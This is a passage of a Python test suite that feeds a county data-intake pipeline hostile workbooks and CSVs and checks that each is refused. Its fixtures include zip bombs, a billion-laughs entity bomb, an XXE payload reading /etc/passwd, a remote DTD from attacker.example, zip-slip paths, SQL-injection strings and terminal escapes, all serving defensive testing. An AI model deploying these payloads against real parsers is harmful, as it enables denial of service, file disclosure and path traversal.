"""Hostile and broken county files: nothing lost, nobody let in.

Every case builds one file a county (or someone posing as one) could drop under
``counties/``, next to a valid county workbook, and runs ``process`` over
``submissions(folder)`` exactly as the nightly run does. Each hostile file must be
refused with the expected catalogue rule and a one-sentence Chinese message naming what
is wrong, within a time bound and without a large jump in the process's peak memory;
the valid county's rows must come out exactly as they do when it is alone, and no other
county's rows may appear. A few cases are not refusals, by decision (documented on the
case): a hyperlink cell keeps its text and never its address, a name carrying an
invisible right-to-left mark is read without it, SQL-looking text is only text.

The bombs are also read in a child process whose address space is capped at 1 GiB, so
a reader that inflated or expanded them would die there instead of passing here.

Decisions the cases pin down:

- control characters (U+0000–U+001F except tab and the line breaks U+000A–U+000D,
  U+007F–U+009F) and the
  bidirectional embeddings/overrides/isolates (U+202A–U+202E, U+2066–U+2069) are refused
  in every cell (VALUE.CONTROL_CHAR), names included: names are never stored, but the
  message, the feedback page and the masked name would carry them, and what the county
  sees must be what is checked. Invisible marks that change nothing (LRM, RLM, zero-width
  space, BOM) are dropped by ``clean_text`` and the cell is accepted;
- an .xlsx part named outside the package (``../``, ``/etc/…``) is refused as FILE.UNSAFE
  even though nothing is ever extracted: Excel never writes one;
- a symbolic link to a file under ``counties/`` is refused as FILE.UNSAFE by the readers
  (opened with O_NOFOLLOW); discovery does not enter a linked folder, and skips it, a lock
  file (``~$530103.xlsx``, ``.~lock.visits.csv#``) and a FIFO with a line in the log (the
  cases marked ``discovered=False``);
- a hidden name (``.530103.xlsx``, ``..xlsx``) is refused like any name no template gives,
  so the county hears of it: a file is never dropped without a word.
"""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import re
import resource
import struct
import subprocess
import sys
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import xlsxwriter

from jixiao.ingest.intake import Context, Outcome
from jixiao.publish.feedback import page_file
from jixiao.sample.generate import SHEETS, write_csv
from tests.test_intake import (
    LABEL,
    NAMES,
    TITLE,
    context,
    county_file,
    pages,
    programme_folder,
    records,
    run,
    set_cell,
)

REPO = Path(__file__).resolve().parent.parent
VALID = "530102"  # the county whose valid workbook sits beside every hostile file
HOSTILE = "530103"  # the county a hostile file claims to be, unless it claims VALID's own
SQL = '"; DROP TABLE visits; --'
SECONDS = 10.0  # per case, the valid county included
RSS_GROWTH_MB = 400  # peak resident memory may not grow by more than this during a case
MB = 1 << 20
SHEET_PART = {
    title: f"xl/worksheets/sheet{i}.xml" for i, title in enumerate(TITLE.values(), start=1)
}


# --- where a county's file goes -----------------------------------------------------------


def xlsx_path(counties: Path, county: str, version: int) -> Path:
    counties.mkdir(parents=True, exist_ok=True)
    return counties / (f"{county}.v{version}.xlsx" if version > 1 else f"{county}.xlsx")


def csv_path(counties: Path, county: str, version: int, sheet: str = "visits") -> Path:
    (counties / county).mkdir(parents=True, exist_ok=True)
    return counties / county / (f"{sheet}.v{version}.csv" if version > 1 else f"{sheet}.csv")


# A builder writes one file for ``county`` (version ``version``) under ``counties`` and
# returns its path.
Builder = Callable[[Path, str, int], Path]


# --- workbooks ----------------------------------------------------------------------------


def wb(*edits) -> Builder:
    """The valid six-sheet workbook with one-thing edits (tests.test_intake)."""
    return lambda counties, county, version: county_file(
        xlsx_path(counties, county, version), *edits, county=county
    )


def book_with(change: Callable[[dict[str, object]], None], title_row: bool = False) -> Builder:
    """The valid workbook written with xlsxwriter directly, then ``change(sheets by title)``
    (for what write_workbook cannot express: formulas, hyperlinks, merged cells)."""

    def build(counties: Path, county: str, version: int) -> Path:
        path = xlsx_path(counties, county, version)
        book = xlsxwriter.Workbook(str(path))
        sheets = {"_book": book}
        for key, rows in records(county).items():
            sheet = book.add_worksheet(TITLE[key])
            top = 1 if title_row and key == "job_fairs" else 0
            sheet.write_row(top, 0, list(LABEL[key].values()))
            for r, row in enumerate(rows, start=top + 1):
                sheet.write_row(
                    r, 0, [v.isoformat() if hasattr(v, "isoformat") else v for v in row]
                )
            sheets[TITLE[key]] = sheet
        change(sheets)
        book.close()
        return path

    return build


def read_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as package:
        return {info.filename: package.read(info) for info in package.infolist()}


def write_parts(path: Path, parts: dict[str, bytes] | list[tuple[str, bytes]], **kw) -> None:
    items = parts.items() if isinstance(parts, dict) else parts
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one case
        with zipfile.ZipFile(path, "w", kw.get("compression", zipfile.ZIP_DEFLATED)) as package:
            for name, data in items:
                package.writestr(name, data, compress_type=kw.get("types", {}).get(name))


def patched(change: Callable[[dict[str, bytes]], object]) -> Builder:
    """The valid workbook with its zip parts changed by ``change`` (which may return a
    list of (name, bytes) to write instead, to repeat a name)."""

    def build(counties: Path, county: str, version: int) -> Path:
        path = county_file(xlsx_path(counties, county, version), county=county)
        parts = read_parts(path)
        result = change(parts)
        write_parts(path, result if isinstance(result, list) else parts)
        return path

    return build


def in_sheet(title: str, old: str, new: str) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        xml = parts[SHEET_PART[title]].decode()
        assert old in xml
        parts[SHEET_PART[title]] = xml.replace(old, new, 1).encode()

    return change


def before_sheet_end(title: str, rows: str) -> Callable[[dict[str, bytes]], None]:
    return in_sheet(title, "</sheetData>", rows + "</sheetData>")


MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a0 "lollollollollollollollollollol">'
    + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    + f']><worksheet {MAIN}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a9;'
    "</t></is></c></row></sheetData></worksheet>"
)
XXE_STRINGS = (
    '<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<sst {MAIN} count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
)
REMOTE_DTD = (
    '<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY % remote SYSTEM '
    '"http://attacker.example/x.dtd"> %remote;]>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
)


def with_zeros(path: Path, part: str) -> Path:
    """The package at ``path`` carrying a 300 MB ``part`` of zeros: about 300 KB on disk."""
    with (
        zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as package,
        package.open(part, "w") as entry,
    ):
        for _ in range(300):
            entry.write(bytes(MB))
    assert path.stat().st_size < 2 * MB
    return path


def zip_bomb(counties: Path, county: str, version: int) -> Path:
    """A valid workbook carrying a 300 MB part of zeros."""
    path = county_file(xlsx_path(counties, county, version), county=county)
    return with_zeros(path, "xl/media/image1.png")


def understated_bomb(counties: Path, county: str, version: int) -> Path:
    """The 慰问 sheet part followed by 100 MB of spaces (legal after the root element), its
    zip directory declaring only the sheet's real size and CRC: a reader trusting the
    declared size checks one thing and a streaming reader inflates another."""
    return understated(county_file(xlsx_path(counties, county, version), county=county),
                       SHEET_PART["慰问"])  # fmt: skip


def understated(path: Path, name: str) -> Path:
    """The package at ``path`` with its part ``name`` followed by 100 MB of spaces, the zip
    directory declaring only the part's real size and CRC."""
    parts = read_parts(path)
    real = parts.pop(name)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    stream = compressor.compress(real)
    for _ in range(100):
        stream += compressor.compress(b" " * MB)
    stream += compressor.flush()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        for part, data in parts.items():
            package.writestr(part, data)
        # Written stored (the deflate stream as is), then declared deflated below.
        package.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), stream)
    data = bytearray(path.read_bytes())
    encoded = name.encode()
    local = next(
        i for i in _find_all(data, b"PK\x03\x04") if data[i + 30 : i + 30 + len(encoded)] == encoded
    )
    central = next(
        i for i in _find_all(data, b"PK\x01\x02") if data[i + 46 : i + 46 + len(encoded)] == encoded
    )
    for method_at, crc_at in ((local + 8, local + 14), (central + 10, central + 16)):
        struct.pack_into("<H", data, method_at, zipfile.ZIP_DEFLATED)
        struct.pack_into("<III", data, crc_at, zlib.crc32(real), len(stream), len(real))
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as package:  # Python's own zipfile is fooled: it stops early
        assert package.read(name) == real
    return path


def _find_all(data: bytes | bytearray, needle: bytes):
    at = data.find(needle)
    while at >= 0:
        yield at
        at = data.find(needle, at + 1)


def many_entries(counties: Path, county: str, version: int) -> Path:
    path = county_file(xlsx_path(counties, county, version), county=county)
    with zipfile.ZipFile(path, "a") as package:
        for i in range(2500):
            package.writestr(f"xl/media/image{i}.bin", b"x")
    return path


def bzip2_part(counties: Path, county: str, version: int) -> Path:
    path = county_file(xlsx_path(counties, county, version), county=county)
    write_parts(path, read_parts(path), types={SHEET_PART["慰问"]: zipfile.ZIP_BZIP2})
    return path


def numeric_cell(title: str, cell: str, text: str) -> Builder:
    """The valid workbook with the number stored in ``cell`` replaced by ``text`` in the XML."""

    def change(parts: dict[str, bytes]) -> None:
        xml = parts[SHEET_PART[title]].decode()
        new = re.sub(rf'(<c r="{cell}"[^>]*>)<v>[^<]*</v>', rf"\g<1><v>{text}</v>", xml)
        assert new != xml
        parts[SHEET_PART[title]] = new.encode()

    return patched(change)


def empty_sheet_name(parts: dict[str, bytes]) -> None:
    """慰问 renamed to "" in workbook.xml (Excel and xlsxwriter both refuse to write that)."""
    xml = parts["xl/workbook.xml"].decode()
    assert 'name="慰问"' in xml
    parts["xl/workbook.xml"] = xml.replace('name="慰问"', 'name=""').encode()


def shared_strings_bomb(parts: dict[str, bytes]) -> None:
    """Three million empty shared strings after the real ones: 15 MB of XML, 15 KB zipped."""
    xml = parts["xl/sharedStrings.xml"]
    parts["xl/sharedStrings.xml"] = xml.replace(b"</sst>", b"<si/>" * 3_000_000 + b"</sst>")


def stored_padding(size: int) -> Builder:
    def build(counties: Path, county: str, version: int) -> Path:
        path = county_file(xlsx_path(counties, county, version), county=county)
        with zipfile.ZipFile(path, "a", zipfile.ZIP_STORED) as package:
            package.writestr("xl/media/image1.png", os.urandom(size))
        return path

    return build


def thousand_sheets(sheets: dict) -> None:
    for i in range(994):
        sheets[f"附表{i}"] = (["备注"], [])


def ten_thousand_columns(sheets: dict) -> None:
    header, rows = sheets["慰问"]
    sheets["慰问"] = (header + [f"备注{i}" for i in range(10_000)], rows)


def more_rows(title: str, n: int) -> Callable[[dict], None]:
    def edit(sheets: dict) -> None:
        header, rows = sheets[title]
        sheets[title] = (header, [list(rows[i % len(rows)]) for i in range(n)])

    return edit


def rename_sheet(title: str, new: str) -> Callable[[dict], None]:
    return lambda sheets: sheets.__setitem__(new, sheets.pop(title))


def relabel(title: str, label: str, new: str) -> Callable[[dict], None]:
    def edit(sheets: dict) -> None:
        header, rows = sheets[title]
        sheets[title] = ([new if h == label else h for h in header], rows)

    return edit


def duplicate_label(title: str, label: str) -> Callable[[dict], None]:
    def edit(sheets: dict) -> None:
        header, rows = sheets[title]
        i = header.index(label)
        sheets[title] = ([*header, label], [[*r, r[i]] for r in rows])

    return edit


def formula(title: str, cell: str, text: str, cached: object) -> Callable[[dict], None]:
    return lambda sheets: sheets[title].write_formula(cell, text, None, cached)


def hyperlink(sheets: dict) -> None:
    # 地点 of the first job fair: shown text fine, address pointing anywhere.
    sheets["招聘会"].write_url("C2", "http://evil.example/steal?x=1", string="人力资源市场")


def merged_header(sheets: dict) -> None:
    # 举办日期 merged over B1:C1: the 地点 label disappears under the merge.
    book = sheets["_book"]
    sheets["招聘会"].merge_range("B1:C1", "举办日期", book.add_format({"align": "center"}))


def merged_title(sheets: dict) -> None:
    book = sheets["_book"]
    sheets["招聘会"].merge_range("A1:H1", "2022年招聘会情况表", book.add_format({"bold": True}))


def ole(*streams: str) -> Callable[[], bytes]:
    """A minimal compound file (the OLE container of .xls and of encrypted .xlsx) whose
    directory names the given streams."""

    def make() -> bytes:
        header = bytearray(512)
        header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)  # version, byte order, 512 B
        struct.pack_into("<IIII", header, 44, 1, 0, 0, 0x1000)  # 1 FAT sector; dir at sector 0
        struct.pack_into("<IIII", header, 60, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
        header[76:512] = b"\xff" * 436
        struct.pack_into("<I", header, 76, 1)  # the FAT is sector 1
        directory = bytearray()
        for i, name in enumerate(("Root Entry", *streams)):
            entry = bytearray(128)
            encoded = name.encode("utf-16-le") + b"\0\0"
            entry[: len(encoded)] = encoded
            struct.pack_into("<HBB", entry, 64, len(encoded), 5 if i == 0 else 2, 1)
            struct.pack_into("<iii", entry, 68, -1, -1, 1 if i == 0 else -1)
            directory += entry
        directory += bytes(-len(directory) % 512)
        fat = struct.pack("<II", 0xFFFFFFFE, 0xFFFFFFFD) + b"\xff" * 504
        return bytes(header) + bytes(directory) + fat + os.urandom(4096)

    return make


def raw_file(make: Callable[[], bytes], suffix: str = "xlsx") -> Builder:
    def build(counties: Path, county: str, version: int) -> Path:
        path = (xlsx_path if suffix == "xlsx" else csv_path)(counties, county, version)
        path.write_bytes(make())
        return path

    return build


def truncated(counties: Path, county: str, version: int) -> Path:
    path = county_file(xlsx_path(counties, county, version), county=county)
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])
    return path


# --- CSV ----------------------------------------------------------------------------------


def visits_text(county: str, edit: Callable[[list[list[object]]], None] | None = None) -> str:
    """The county's valid 慰问 sheet as CSV text (CRLF), after ``edit`` on its rows."""
    header = list(LABEL["visits"].values())
    rows = [list(r) for r in records(county)["visits"]]
    if edit:
        edit(rows)
    lines = [header] + [[_cell(v) for v in r] for r in rows]
    return "".join(",".join(line) + "\r\n" for line in lines)


def _cell(value: object) -> str:
    if value is None:
        return ""
    return value.isoformat() if isinstance(value, dt.date) else str(value)


def csv_file(make: Callable[[str], bytes], sheet: str = "visits") -> Builder:
    def build(counties: Path, county: str, version: int) -> Path:
        path = csv_path(counties, county, version, sheet)
        path.write_bytes(make(county))
        return path

    return build


def visits_csv(edit=None, encoding: str = "utf-8", newline: str | None = None) -> Builder:
    def make(county: str) -> bytes:
        text = visits_text(county, edit)
        if newline is not None:
            text = text.replace("\r\n", newline)
        return text.encode(encoding)

    return csv_file(make)


def put(row: int, column: str, value: object) -> Callable[[list[list[object]]], None]:
    """Put ``value`` in the visits row on sheet row ``row``, column ``column``."""
    index = list(LABEL["visits"].values()).index(column)

    def edit(rows: list[list[object]]) -> None:
        rows[row - 2][index] = value

    return edit


def huge_line(size: int) -> Builder:
    """A header, then one line of ``size`` bytes without a line break, written in chunks."""

    def build(counties: Path, county: str, version: int) -> Path:
        path = csv_path(counties, county, version)
        with path.open("wb") as out:
            out.write(visits_text(county).splitlines(keepends=True)[0].encode())
            for _ in range(size // MB):
                out.write(b"A" * MB)
        return path

    return build


def wide_csv(county: str) -> bytes:
    header = list(LABEL["visits"].values()) + [f"备注{i}" for i in range(10_000)]
    return (",".join(header) + "\r\n").encode() + visits_text(county).split("\r\n", 1)[1].encode()


def mixed_encodings(county: str) -> bytes:
    lines = visits_text(county).splitlines(keepends=True)
    return b"".join(line.encode("gb18030") for line in lines[:-1]) + lines[-1].encode("utf-8")


def header_only(county: str) -> bytes:
    return visits_text(county).splitlines(keepends=True)[0].encode("utf-8-sig")


def many_rows_csv(n: int) -> Callable[[str], bytes]:
    def make(county: str) -> bytes:
        lines = visits_text(county).splitlines(keepends=True)
        return (lines[0] + "".join(lines[1 + i % 3] for i in range(n))).encode()

    return make


# --- paths --------------------------------------------------------------------------------


def outside(counties: Path) -> Path:
    """A folder beside data/raw, outside the programme folder."""
    path = counties.parents[3] / "outside"
    path.mkdir(exist_ok=True)
    return path


def symlinked_file(counties: Path, county: str, version: int) -> Path:
    target = county_file(outside(counties) / "elsewhere.xlsx", county=county)
    link = xlsx_path(counties, county, version)
    link.symlink_to(target)
    return link


def symlinked_folder(counties: Path, county: str, version: int) -> Path:
    target = outside(counties) / "county"
    for key, rows in records(county).items():
        write_csv(target / f"{key}.csv", list(LABEL[key].values()), rows)
    counties.mkdir(parents=True, exist_ok=True)
    (counties / county).symlink_to(target, target_is_directory=True)
    return counties / county / "visits.csv"


def dot_dot_file(counties: Path, county: str, version: int) -> Path:
    return county_file(counties / "..xlsx", county=county)


def hidden_file(counties: Path, county: str, version: int) -> Path:
    """A valid workbook under a hidden name: what a county means is not guessed."""
    path = xlsx_path(counties, county, version)
    return county_file(path.with_name("." + path.name), county=county)


def office_lock_file(counties: Path, county: str, version: int) -> Path:
    """What Excel leaves beside a workbook it has open: 165 bytes holding the user's name."""
    path = xlsx_path(counties, county, version)
    path = path.with_name("~$" + path.name)
    path.write_bytes(b"\x06jixiao" + b"\x00" * 158)
    return path


def libreoffice_lock_file(counties: Path, county: str, version: int) -> Path:
    """What LibreOffice leaves beside a file it has open."""
    path = csv_path(counties, county, version)
    path = path.with_name(f".~lock.{path.name}#")
    path.write_text("jixiao,jixiao,host,27.11.2026 10:00,file:///home/jixiao/.config;\n")
    return path


def fifo(counties: Path, county: str, version: int) -> Path:
    """A named pipe with a workbook's name: reading (or hashing) it would wait for ever."""
    path = xlsx_path(counties, county, version)
    os.mkfifo(path)
    return path


def dot_dot_folder(counties: Path, county: str, version: int) -> Path:
    path = counties / "..bad" / "visits.csv"
    path.parent.mkdir(parents=True)
    path.write_text(visits_text(county), encoding="utf-8")
    return path


def control_in_file_name(counties: Path, county: str, version: int) -> Path:
    return county_file(counties / f"{county}\x1b[31m.xlsx", county=county)


# --- the cases ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Case:
    build: Builder
    rule: str | None  # None: accepted, by decision
    phrase: str = ""  # Chinese text a message of that rule must contain
    env: dict[str, str] = field(default_factory=dict)  # limits lowered for this case
    check: Callable[[Context, Path], None] | None = None  # more assertions
    discovered: bool = True  # False: discovery must not even list it
    same_county: bool = True  # also run as the valid county's own v2 (see the last test)
    shown: str | None = None  # the file as logged and shown, when not its path


def venue_is(expected: str) -> Callable[[Context, Path], None]:
    def check(ctx: Context, path: Path) -> None:
        venues = {r[0] for r in ctx.con.execute(
            "SELECT venue FROM job_fairs WHERE county_code = ?", [HOSTILE]
        ).fetchall()}  # fmt: skip
        assert expected in venues

    return check


def nothing_stores(*needles: str) -> Callable[[Context, Path], None]:
    def check(ctx: Context, path: Path) -> None:
        for table in ctx.con.execute("SHOW TABLES").fetchall():
            text = json.dumps(
                ctx.con.execute(f"SELECT * FROM {table[0]}").fetchall(),
                default=str,
                ensure_ascii=False,
            )
            for needle in needles:
                assert needle not in text, (table, needle)

    return check


def rows_of(county: str, expected: dict[str, int]) -> Callable[[Context, Path], None]:
    def check(ctx: Context, path: Path) -> None:
        for key, n in expected.items():
            got = ctx.con.execute(
                f"SELECT count(*) FROM {key} WHERE county_code = ?", [county]
            ).fetchone()[0]
            assert got == n, key

    return check


def visits_table_intact(ctx: Context, path: Path) -> None:
    assert ctx.con.execute(
        "SELECT count(*) FROM visits WHERE county_code = ?", [VALID]
    ).fetchone() == (3,)


def visits_by_header(ctx: Context, path: Path) -> None:
    """A sheet whose name the template does not know is known by its header row: 慰问 is
    read, and the other county's visits are untouched."""
    visits_table_intact(ctx, path)
    rows_of(HOSTILE, {"visits": 3})(ctx, path)
    assert ctx.con.execute(
        "SELECT sheets_absent FROM ingest_log WHERE county_code = ?", [HOSTILE]
    ).fetchone() == ([],)


VISIT_NAME, VISIT_AMOUNT, VISIT_DATE = "姓名", "慰问金额(元)", "慰问日期"
CERT = records(HOSTILE)["visits"][0][0]

CASES = [
    # --- size and bombs
    pytest.param(Case(zip_bomb, "FILE.CORRUPT", "压缩炸弹"), id="zip-bomb-300MB-declared"),
    pytest.param(Case(understated_bomb, "FILE.CORRUPT", "超过其声明的大小"), id="zip-bomb-understated-size"),
    pytest.param(Case(many_entries, "FILE.CORRUPT", "个部件"), id="zip-2500-entries"),
    pytest.param(Case(stored_padding(2 * MB), "FILE.TOO_LARGE", "超过上限 1 MB", env={"JIXIAO_MAX_FILE_MB": "1"}), id="xlsx-over-file-limit"),
    pytest.param(Case(huge_line(100 * MB), "FILE.TOO_LARGE", "超过上限 50 MB"), id="csv-100MB-line"),
    pytest.param(Case(huge_line(5 * MB), "SHEET.LINE_TOO_LONG", "1,024 KB"), id="csv-5MB-line"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>x</t></is></c></row>')), "SHEET.TOO_MANY_ROWS", "1,048,576"), id="stray-cell-in-last-row"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="99"><c r="XFD99" t="inlineStr"><is><t>x</t></is></c></row>')), "SHEET.TOO_MANY_COLUMNS", "16,384"), id="stray-cell-in-column-XFD"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="99"><c r="xfd99" t="inlineStr"><is><t>x</t></is></c></row>')), "SHEET.TOO_MANY_COLUMNS", "16,384"), id="stray-cell-lower-case-reference"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="99"><c r="ZZZZZZZ99" t="inlineStr"><is><t>x</t></is></c></row>')), "SHEET.TOO_MANY_COLUMNS", "8,353,082,582"), id="stray-cell-seven-letter-column"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="99"><c r="$A$99" t="inlineStr"><is><t>x</t></is></c></row>')), "FILE.CORRUPT", "不是有效的 XML"), id="cell-reference-not-understood"),
    pytest.param(Case(wb(ten_thousand_columns), "SHEET.TOO_MANY_COLUMNS", "10,006"), id="xlsx-10000-columns"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="20001"><c r="CV20001" t="inlineStr"><is><t>x</t></is></c></row>')), "SHEET.TOO_MANY_CELLS", "2,000,"), id="stray-cell-making-2M-cell-rectangle"),
    pytest.param(Case(patched(shared_strings_bomb), "FILE.CORRUPT", "共享字符串"), id="shared-strings-3M-empty-entries"),
    pytest.param(Case(csv_file(many_rows_csv(30)), "SHEET.TOO_MANY_CELLS", "186", env={"JIXIAO_MAX_CELLS": "150"}), id="csv-over-cell-limit"),
    pytest.param(Case(csv_file(wide_csv), "SHEET.TOO_MANY_COLUMNS", "10,006"), id="csv-10000-columns"),
    pytest.param(Case(wb(more_rows("慰问", 60)), "SHEET.TOO_MANY_ROWS", "61", env={"JIXIAO_MAX_ROWS": "50"}), id="xlsx-over-row-limit"),
    pytest.param(Case(csv_file(many_rows_csv(60)), "SHEET.TOO_MANY_ROWS", "61", env={"JIXIAO_MAX_ROWS": "50"}), id="csv-over-row-limit"),
    pytest.param(Case(wb(thousand_sheets), "SHEET.TOO_MANY", "1,000"), id="workbook-1000-sheets"),
    pytest.param(Case(patched(in_sheet("招聘会", "</sheetData>", '<row r="9"><c r="C9" t="inlineStr"><is><t>' + "文" * MB + "</t></is></c></row></sheetData>")), "VALUE.TOO_LONG", "1,048,576 个字符"), id="xlsx-1MB-cell"),
    pytest.param(Case(visits_csv(put(2, VISIT_NAME, "张" * 200_000)), "VALUE.TOO_LONG", "200,000 个字符"), id="csv-200K-character-cell"),
    # --- XML
    pytest.param(Case(patched(lambda p: p.__setitem__(SHEET_PART["慰问"], LAUGHS.encode())), "FILE.UNSAFE", "DOCTYPE"), id="xml-entity-bomb"),
    pytest.param(Case(patched(lambda p: p.__setitem__("xl/sharedStrings.xml", XXE_STRINGS.encode())), "FILE.UNSAFE", "DOCTYPE"), id="xml-external-entity"),
    pytest.param(Case(patched(lambda p: p.__setitem__("[Content_Types].xml", REMOTE_DTD.encode())), "FILE.UNSAFE", "DOCTYPE"), id="xml-remote-dtd"),
    pytest.param(Case(patched(lambda p: p.__setitem__(SHEET_PART["慰问"], p[SHEET_PART["慰问"]][:-40])), "FILE.CORRUPT", "不是有效的 XML"), id="sheet-xml-invalid"),
    pytest.param(Case(patched(before_sheet_end("慰问", '<row r="9"><c r="A9" t="s"><v>99999</v></c></row>')), "FILE.CORRUPT", "损坏"), id="shared-string-index-out-of-range"),
    # --- the zip itself
    pytest.param(Case(truncated, "FILE.CORRUPT", "截断"), id="truncated-zip"),
    pytest.param(Case(patched(lambda p: [*p.items(), (SHEET_PART["慰问"], b"<worksheet/>")]), "FILE.CORRUPT", "出现了两次"), id="zip-duplicate-part"),
    pytest.param(Case(patched(lambda p: [*p.items(), ("../../../../tmp/jixiao-evil.txt", b"x"), ("/etc/jixiao-evil", b"x")]), "FILE.UNSAFE", "文件包之外"), id="zip-slip-part-names"),
    pytest.param(Case(bzip2_part, "FILE.CORRUPT", "压缩方式"), id="zip-bzip2-part"),
    pytest.param(Case(raw_file(lambda: b""), "FILE.EMPTY", "0 字节"), id="xlsx-0-bytes"),
    pytest.param(Case(raw_file(lambda: b"", "csv"), "FILE.EMPTY", "0 字节"), id="csv-0-bytes"),
    # An OLE container is read as an .xls whatever its name: one holding no real workbook is corrupt.
    pytest.param(Case(raw_file(ole("Workbook", "\x05SummaryInformation")), "FILE.CORRUPT", "已损坏"), id="xls-biff-renamed-xlsx"),
    pytest.param(Case(raw_file(ole("EncryptionInfo", "EncryptedPackage")), "FILE.ENCRYPTED", "密码"), id="password-protected-xlsx"),
    pytest.param(Case(raw_file(lambda: b"\x89PNG\r\n\x1a\n" + os.urandom(2048)), "FILE.NOT_WORKBOOK", "不是有效的 Excel 工作簿"), id="png-renamed-xlsx"),
    pytest.param(Case(raw_file(lambda: b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + os.urandom(512), "csv"), "FILE.ENCODING", "PDF"), id="pdf-renamed-csv"),
    pytest.param(Case(patched(empty_sheet_name), None, check=visits_by_header), id="empty-sheet-name"),
    # --- encodings and CSV structure
    pytest.param(Case(csv_file(mixed_encodings), "FILE.ENCODING", "混用"), id="csv-mixed-utf8-and-gb18030"),
    pytest.param(Case(csv_file(lambda county: "category\r\n失业\r\n".encode("gb18030")), "FILE.ENCODING", "无法确定"), id="csv-gb18030-that-is-also-valid-utf8"),
    pytest.param(Case(visits_csv(encoding="utf-16-le"), "FILE.ENCODING", "UTF-16"), id="csv-really-utf16-no-bom"),
    pytest.param(Case(visits_csv(encoding="utf-16"), "FILE.ENCODING", "UTF-16"), id="csv-really-utf16-bom"),
    pytest.param(Case(csv_file(lambda county: b"\xef\xbb\xbf"), "FILE.EMPTY", "文件为空"), id="csv-bom-only"),
    pytest.param(Case(visits_csv(put(3, VISIT_NAME, "李\x00建国")), "FILE.ENCODING", "NUL"), id="csv-nul-bytes"),
    pytest.param(Case(csv_file(lambda county: visits_text(county).replace(",李建国,", ',"李建国,', 1).encode()), "FILE.CORRUPT", "CSV"), id="csv-unclosed-quote"),
    pytest.param(Case(csv_file(header_only), None, check=rows_of(HOSTILE, {"visits": 0}), same_county=False), id="csv-header-only-accepted"),
    pytest.param(Case(visits_csv(newline="\r"), None, check=rows_of(HOSTILE, {"visits": 3}), same_county=False), id="csv-cr-line-endings-accepted"),
    # --- headers and sheets
    pytest.param(Case(wb(duplicate_label("招聘会", "地点")), "COLUMN.DUPLICATE", "不止一次"), id="duplicate-header"),
    pytest.param(Case(book_with(merged_header), "COLUMN.MISSING", "地点"), id="merged-header-cells"),
    pytest.param(Case(book_with(merged_title, title_row=True), None, check=rows_of(HOSTILE, {"job_fairs": 2})), id="merged-title-row-above-header"),
    pytest.param(Case(wb(rename_sheet("慰问", SQL)), None, check=visits_by_header), id="sql-sheet-name"),
    pytest.param(Case(wb(relabel("招聘会", "地点", SQL)), "COLUMN.MISSING", "地点", check=visits_table_intact), id="sql-header"),
    pytest.param(Case(wb(set_cell("招聘会", 2, "地点", "'); DROP TABLE visits; --")), None, check=venue_is("'); DROP TABLE visits; --"), same_county=False), id="sql-text-stored-as-text"),
    # --- cells
    pytest.param(Case(book_with(formula("经费", "C3", "=1000+200", 1200)), "SHEET.FORMULA", "公式"), id="formula-cell"),
    pytest.param(Case(book_with(formula("慰问", "A2", f'="{CERT}"', CERT)), "SHEET.FORMULA", "公式", check=nothing_stores(CERT[:18])), id="formula-in-personal-column-masked"),
    pytest.param(Case(book_with(hyperlink), None, check=lambda ctx, p: (venue_is("人力资源市场")(ctx, p), nothing_stores("evil.example")(ctx, p)), same_county=False), id="hyperlink-text-kept-url-dropped"),
    pytest.param(Case(wb(set_cell("招聘会", 3, "地点", "文体中心\x1b[2J")), "VALUE.CONTROL_CHAR", "U+001B"), id="terminal-escape-in-venue"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_NAME, "\u202e" + NAMES[0])), "VALUE.CONTROL_CHAR", "U+202E", check=nothing_stores(NAMES[0][1:])), id="rtl-override-in-name"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_NAME, NAMES[0] + "\u200f")), None, check=rows_of(HOSTILE, {"visits": 3}), same_county=False), id="rtl-mark-in-name-accepted"),
    pytest.param(Case(wb(relabel("招聘会", "地点", "地点\x07")), "VALUE.CONTROL_CHAR", "U+0007"), id="bell-in-header"),
    pytest.param(Case(wb(set_cell("招聘会", 2, "地点", "人力资源市场\x0b二楼")), None, check=venue_is("人力资源市场\x0b二楼"), same_county=False), id="word-line-break-in-venue-accepted"),
    pytest.param(Case(visits_csv(put(2, VISIT_NAME, "ç\x8e\x8b")), "VALUE.CONTROL_CHAR", "U+008E"), id="csv-c1-controls"),
    pytest.param(Case(wb(set_cell("慰问", 2, VISIT_AMOUNT, 1e308)), "VALUE.TYPE", "1E+308"), id="number-1e308"),
